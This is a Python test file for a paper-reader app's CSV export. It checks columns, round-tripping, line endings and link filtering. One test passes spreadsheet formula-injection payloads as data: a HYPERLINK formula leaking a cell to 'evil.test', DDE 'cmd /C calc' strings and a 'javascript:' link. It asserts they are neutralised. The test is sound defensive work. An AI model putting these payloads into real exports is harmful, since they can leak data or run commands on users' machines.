"""CSV: rows read back by the csv module, one per paper, marks in their columns."""

from __future__ import annotations

import csv
import io

from hypothesis import given, settings
from hypothesis import strategies as st
from support.papers_to_export import DUMPED, FAST, NAME, TITLE, make

from tui_reader.export import render
from tui_reader.library.model import Mark


def test_csv_reads_back_with_the_csv_module():
    marks = {FAST.id: Mark(read=True, starred=True)}
    text = render([FAST, DUMPED], "csv", lambda paper_id: marks.get(paper_id, Mark()))
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert rows == [
        {
            "id": FAST.id,
            "title": "Fast Diffusion for LLMs",
            "authors": "Ada Lovelace; Alan Turing",
            "arxiv_id": "2403.01234",
            "published": "2024-03-08",
            "url": "https://arxiv.org/abs/2403.01234",
            "dates": "Mar 11, 2024",
            "read": "true",
            "starred": "true",
            "doi": "",
            "journal_ref": "",
            "categories": "",
            "github_repo": "",
            "project_page": "",
        },
        {
            "id": DUMPED.id,
            "title": "Slow Diffusion",
            "authors": "",
            "arxiv_id": "",
            "published": "",
            "url": "https://slow.example/project",
            "dates": "Mar 11",
            "read": "false",
            "starred": "false",
            "doi": "",
            "journal_ref": "",
            "categories": "",
            "github_repo": "",
            "project_page": "",
        },
    ]


def test_arxiv_and_daily_papers_fields_come_after_the_older_columns():
    arxiv = make(
        "Optics",
        arxiv="0704.0033",
        authors=("The BABAR Collaboration", "B. Aubert"),
        et_al=True,
        categories=("physics.optics", "cs.CL"),
        doi="10.1364/JOSAA.23.002578 10.1364/JOSAA.32.002407",
        journal_ref="J.Opt.Soc.Am.A 23, 2578-2591 (2006)",
    )
    daily = make("Agents", github_repo="https://github.com/a/b", project_page="javascript:alert(1)")
    text = render([arxiv, daily], "csv")
    header, first, second = csv.reader(io.StringIO(text, newline=""))
    assert header[:9] == ["id", "title", "authors", "arxiv_id", "published", "url", "dates", "read", "starred"]
    assert dict(zip(header, first)) | {"id": ""} == {
        "id": "",
        "title": "Optics",
        "authors": "The BABAR Collaboration; B. Aubert; et al.",  # the list is known to be incomplete
        "arxiv_id": "0704.0033",
        "published": "",
        "url": "https://arxiv.org/abs/0704.0033",
        "dates": "",
        "read": "false",
        "starred": "false",
        "doi": "10.1364/JOSAA.23.002578; 10.1364/JOSAA.32.002407",
        "journal_ref": "J.Opt.Soc.Am.A 23, 2578-2591 (2006)",
        "categories": "physics.optics; cs.CL",
        "github_repo": "",
        "project_page": "",
    }
    assert (second[header.index("github_repo")], second[header.index("project_page")]) == (
        "https://github.com/a/b",
        "",  # only http(s) links are written
    )


@settings(max_examples=200, deadline=None)
@given(title=TITLE.filter(bool), authors=st.lists(NAME.filter(lambda n: n and ";" not in n), max_size=3))
def test_any_title_and_authors_survive_csv(title, authors):
    paper = make(title, authors=tuple(authors), arxiv="2401.00001")
    (row,) = csv.DictReader(io.StringIO(render([paper], "csv"), newline=""))
    assert row["title"] == as_text(title)
    assert row["authors"] == as_text("; ".join(authors)) and row["arxiv_id"] == "2401.00001"


def as_text(cell: str) -> str:
    """What a cell is written as: with a ``'`` when a spreadsheet would take it for a formula."""
    return "'" + cell if cell[:1] in ("=", "+", "-", "@", "\t", "\r") else cell


def test_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text():
    hyperlink = '=HYPERLINK("http://evil.test/?x="&A1,"Click")'
    paper = make(hyperlink, authors=("=cmd|' /C calc'!A0", "Ada Lovelace"), journal_ref="@SUM(1+1)*cmd|' /C calc'!A0")
    others = [make("-based learning", authors=("+1 Author",)), make("Plain title", authors=("Ada Lovelace",))]
    rows = list(csv.DictReader(io.StringIO(render([paper, *others], "csv"), newline="")))
    assert rows[0]["title"] == "'" + hyperlink
    assert rows[0]["authors"] == "'=cmd|' /C calc'!A0; Ada Lovelace"
    assert rows[0]["journal_ref"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert (rows[1]["title"], rows[1]["authors"]) == ("'-based learning", "'+1 Author")
    assert (rows[2]["title"], rows[2]["authors"]) == ("Plain title", "Ada Lovelace")  # the rest as they are
    for row in rows:
        assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in row.values())


def test_every_row_ends_in_crlf():
    text = render([make("One"), make("Two")], "csv")
    assert text.count("\r\n") == 3 and text.endswith("\r\n")
    assert "\n" not in text.replace("\r\n", "")
